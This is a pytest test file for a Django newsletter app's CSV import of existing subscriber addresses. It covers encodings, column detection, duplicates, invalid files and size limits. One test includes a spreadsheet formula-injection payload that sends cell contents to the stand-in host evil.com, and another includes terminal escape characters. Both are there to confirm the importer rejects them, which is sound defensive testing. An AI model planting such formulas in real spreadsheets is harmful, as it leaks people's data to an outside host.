"""Reading and importing the team's existing list of addresses (newsletters.importing)."""

import codecs
import datetime

import pytest

from newsletters import importing
from newsletters.importing import ImportProblem, import_addresses, read_addresses
from newsletters.models import FormerSubscriber, Subscriber, address_hash

pytestmark = pytest.mark.django_db

BASIS = "Imported from Outlook contacts, a list dated 1 October 2026, by Sam Team on 3 December."


def csv_bytes(*lines, encoding="utf-8", bom=b""):
    return bom + "\r\n".join(lines).encode(encoding)


def rows(skipped):
    return [(s.row, s.value, s.reason) for s in skipped]


def run_import(data, **options):
    return import_addresses(read_addresses(data), source="Outlook contacts", basis=BASIS, **options)


def subscriber(email, **fields):
    return Subscriber.objects.create(email=email, **fields)


def test_a_realistic_list_imports_exactly_the_new_valid_addresses_and_reports_the_rest():
    subscriber("already@example.org", status=Subscriber.Status.CONFIRMED)
    subscriber("pending@example.org")
    FormerSubscriber.objects.create(address_hash=address_hash("left@example.org"))
    data = csv_bytes(
        "Name,Email address,Organisation",
        "Jane Smith,Jane.Smith@Example.ORG,Westminster Academy",
        "Omar Khan,  omar@example.net  ,Church Street Library",
        "",
        "No Address,,Somewhere",
        "Typo,lee@example,Youth club",
        "Jane again,jane.smith@example.org,Westminster Academy",
        "Already,ALREADY@example.org,",
        "Pending,pending@example.org,",
        "Left,Left@Example.org,",
        "Named,Priya Patel <priya@example.com>,",
        " , , ",
        "Last,last@example.co.uk,",
        bom=codecs.BOM_UTF8,
    )

    result = run_import(data, updates=["funding"])

    imported = Subscriber.objects.filter(lawful_basis=BASIS)
    assert sorted(imported.values_list("email", flat=True)) == [
        "jane.smith@example.org",
        "last@example.co.uk",
        "omar@example.net",
        "priya@example.com",
    ]
    assert result.imported == 4
    for new in imported:
        assert new.status == Subscriber.Status.CONFIRMED
        assert new.confirmed_at is not None
        assert new.source == "Outlook contacts"
        assert (new.training_and_events, new.funding) == (False, True)
    # Each has a secret of its own for its links.
    assert len(set(imported.values_list("key", flat=True))) == 4
    assert rows(result.invalid) == [
        (5, "No Address, Somewhere", "No email address in this row"),
        (6, "lee@example", "Not a valid email address"),
    ]
    assert rows(result.repeated) == [(7, "jane.smith@example.org", "Also in row 2")]
    assert rows(result.on_the_list) == [
        (8, "already@example.org", "Subscribed"),
        (9, "pending@example.org", "Waiting for confirmation"),
    ]
    assert rows(result.left) == [(10, "left@example.org", "")]
    assert result.not_imported == 6
    # Those already on the list are left exactly as they were.
    assert Subscriber.objects.get(email="pending@example.org").status == "pending"
    assert Subscriber.objects.count() == 6


def test_importing_sends_no_email(mailoutbox, django_capture_on_commit_callbacks):
    from outbox.models import OutboundEmail

    with django_capture_on_commit_callbacks(execute=True):
        run_import(csv_bytes("Email", "new@example.org"))
    assert OutboundEmail.objects.count() == 0
    assert mailoutbox == []


def test_a_semicolon_separated_windows_1252_file_without_headings():
    data = csv_bytes(
        "Zoë Brontë;zoe@example.org;Café owners’ forum",
        "Smith, John;john@example.org;",
        encoding="cp1252",
    )
    result = run_import(data)
    assert result.imported == 2
    assert set(Subscriber.objects.values_list("email", flat=True)) == {
        "zoe@example.org",
        "john@example.org",
    }


def test_with_no_headings_the_address_column_is_the_first_that_holds_an_address():
    data = csv_bytes(
        "Ann,ann@example.org,ann.home@example.org",
        "Bob,not an address,bob.home@example.org",
    )
    result = run_import(data)
    assert list(Subscriber.objects.values_list("email", flat=True)) == ["ann@example.org"]
    assert rows(result.invalid) == [(2, "not an address", "Not a valid email address")]


def test_a_tab_separated_utf_16_file_as_excel_saves_unicode_text():
    data = "Name\tE-mail Address\r\nSiân\tsian@example.org\r\n".encode("utf-16")
    assert run_import(data).imported == 1
    assert Subscriber.objects.get().email == "sian@example.org"


@pytest.mark.parametrize(
    "heading", ["email", "Email", "Email address", "E-mail", "E-mail Address", "EMAIL_ADDRESS"]
)
def test_the_email_column_is_found_by_its_heading(heading):
    data = csv_bytes(f"Name,{heading},Other email", "Kim,kim@example.org,kim2@example.org")
    run_import(data)
    assert list(Subscriber.objects.values_list("email", flat=True)) == ["kim@example.org"]


def test_a_formula_and_a_huge_cell_are_reported_shortened_and_not_imported():
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    quoted = '"' + formula.replace('"', '""') + '"'
    huge = "x" * 10_000 + "@example.org"
    result = run_import(csv_bytes("Email", quoted, huge, "ok@example.org"))
    assert result.imported == 1
    [(row2, shown2, _), (row3, shown3, reason3)] = rows(result.invalid)
    assert (row2, shown2) == (2, formula)
    assert row3 == 3 and len(shown3) == importing.SHOWN_LENGTH and shown3.endswith("…")
    assert reason3 == "Too long to be an email address"


def test_control_characters_in_a_cell_are_not_echoed():
    result = run_import(csv_bytes("Email", "bad\x1b[31m\x0bname@example.org"))
    assert result.imported == 0
    [(_, shown, _)] = rows(result.invalid)
    assert "\x1b" not in shown and "\x0b" not in shown


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "The file is empty."),
        (b"\r\n \r\n,,\r\n", "The file is empty."),
        (b"Name,Email address\r\n", "The file has no addresses below its heading row."),
        (b"Name,Phone\r\nAnn,0207\r\n", "No column of email addresses was found."),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00", "does not hold text"),
        (b"PK\x03\x04\x14\x00\x06\x00", "This is an Excel workbook"),
        (b"Email\r\n\x81\x8d\x8f\x90\x9d@example.org\r\n", "does not hold text"),
        (b'Email\r\n"' + b"a" * 200_000 + b'"\r\n', "Row 2 of the file could not be read"),
        (b"Email\r\n" + b"a@example.org\r\n" * 180_000, "The file is larger than 2 MB."),
    ],
    ids=[
        "empty",
        "blank rows",
        "only headings",
        "no email column",
        "binary",
        "excel",
        "undecodable",
        "cell too long",
        "too large",
    ],
)
def test_a_file_that_cannot_be_imported_gives_a_clear_reason_and_imports_nothing(data, message):
    with pytest.raises(ImportProblem, match=message):
        run_import(data)
    assert Subscriber.objects.count() == 0


def test_a_file_with_too_many_addresses_imports_none_of_them(monkeypatch):
    monkeypatch.setattr(importing, "MAX_ROWS", 3)
    data = csv_bytes("Email", *(f"person{n}@example.org" for n in range(4)))
    with pytest.raises(ImportProblem, match="more than 3 addresses"):
        run_import(data)
    assert Subscriber.objects.count() == 0
    # Blank rows do not count.
    run_import(csv_bytes("Email", "", "a@example.org", "", "b@example.org", "", "c@example.org"))
    assert Subscriber.objects.count() == 3


def test_a_sign_up_that_arrives_during_the_import_leaves_nothing_half_imported(monkeypatch):
    found = read_addresses(csv_bytes("Email", "first@example.org", "racer@example.org"))
    bulk_create = Subscriber.objects.bulk_create

    def sign_up_first(objs, **kwargs):
        # Stands in for a sign-up committed by another request after the import's checks.
        subscriber("racer@example.org")
        return bulk_create(objs, **kwargs)

    monkeypatch.setattr(Subscriber.objects, "bulk_create", sign_up_first)
    with pytest.raises(ImportProblem, match="Import the file again"):
        import_addresses(found, source="Outlook contacts", basis=BASIS)
    assert not Subscriber.objects.filter(email="first@example.org").exists()


def test_the_lawful_basis_names_the_list_its_date_who_imported_it_and_when():
    assert importing.lawful_basis(
        "Prevent newsletter mailing list, Outlook contacts",
        datetime.date(2026, 10, 1),
        "Sam Team",
        today=datetime.date(2026, 12, 3),
    ) == (
        "Imported from Prevent newsletter mailing list, Outlook contacts, a list dated "
        "1 October 2026, by Sam Team on 3 December 2026."
    )
